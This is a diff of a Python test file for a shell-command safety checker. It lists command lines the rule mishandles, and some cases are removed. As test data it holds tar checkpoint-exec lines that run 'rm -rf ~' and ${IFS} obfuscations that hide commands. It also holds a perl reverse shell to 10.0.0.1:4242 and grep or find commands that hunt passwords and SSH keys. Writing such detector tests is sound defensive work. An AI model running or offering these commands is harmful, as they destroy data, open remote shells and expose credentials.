@@ -456,11 +456,6 @@ unmet("a command run by an option (ssh's -oProxyCommand, psql's -o '|cmd', tar's
       "tar cf archive.tar --checkpoint=1 --checkpoint-action=exec='rm -rf ~' src")
 unmet("file names a glob turns into tar's options: the files the line made are not matched against the glob",
       "touch -- '--checkpoint=1' '--checkpoint-action=exec=rm -rf ~' && tar cf archive.tar *")
-unmet("an empty expansion inside a word (${IFS}, $@, $(), ``, $0 as the shell) is read as a command the "
-      "parser cannot see", "ls${IFS}-la", "cat${IFS}README.md", "wh``oami", "who$@ami", "echo whoami|$0",
-      "who$()ami", "echo 1;sleep${IFS}9;#${IFS}';sleep${IFS}9;#${IFS}\";sleep${IFS}9;#${IFS}",
-      "echo '1;sleep${IFS}9;#${IFS}';sleep${IFS}9;#${IFS}\";sleep${IFS}9;#${IFS}",
-      "g=\"/e\"\\h\"hh\"/hm\"t\"c/\\i\"sh\"hh/hmsu\\e;tac$@<${g//hh??hm/}")
 unmet("a reverse shell in a one-liner the rule does not know in that shape (perl's IO::Socket::INET, python's "
       "__import__ aliases, php's proc_open, ruby's TCPSocket, go run of a file the line wrote, lua's socket)",
       "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4242\");STDIN->fdopen($c,r);"
@@ -486,18 +481,12 @@ unmet("lxc's host disk device (source=/) is not read as a container that owns th
 unmet("a search of every file or the memory for passwords, and keys found by find and printed by xargs cat, are "
       "not read as secrets reached", "grep --color=auto -rnw '/' -ie \"PASSWORD\" --color=always 2> /dev/null",
       "strings /dev/mem -n10 | grep -i PASS", "find / -name authorized_keys 2> /dev/null | xargs cat")
-unmet("refused: openssl s_server serves TLS, it runs no shell (read as a listener that serves one)",
-      "openssl s_server -quiet -key key.pem -cert cert.pem -port 4242",
-      "openssl s_server -accept 8443 -cert certs/dev.crt -key certs/dev.key -www")
 unmet("refused: bash's /dev/tcp to localhost or for a port check is read as a reverse shell",
       "exec 3<>/dev/tcp/localhost/6379; printf 'PING\\r\\n' >&3; head -c 7 <&3",
       "timeout 1 bash -c '</dev/tcp/localhost/5432' && echo open", "echo > /dev/tcp/127.0.0.1/8080 && echo up",
       "(echo >/dev/tcp/db.internal/5432) 2>/dev/null && echo up")
-unmet("refused: find -name id_rsa lists names, it reads no key", "find / -name id_rsa 2> /dev/null")
 unmet("refused: an array of literal words run by \"${cmd[@]}\" is read as a command the parser cannot see",
       "cmd=(git log --oneline -5); \"${cmd[@]}\"")
-unmet("refused: core.sshCommand set to ssh with a key that authenticates (ssh -i passes on its own)",
-      "git config core.sshCommand \"ssh -i ~/.ssh/id_work -o IdentitiesOnly=yes\"")
 
 
 if __name__ == "__main__":
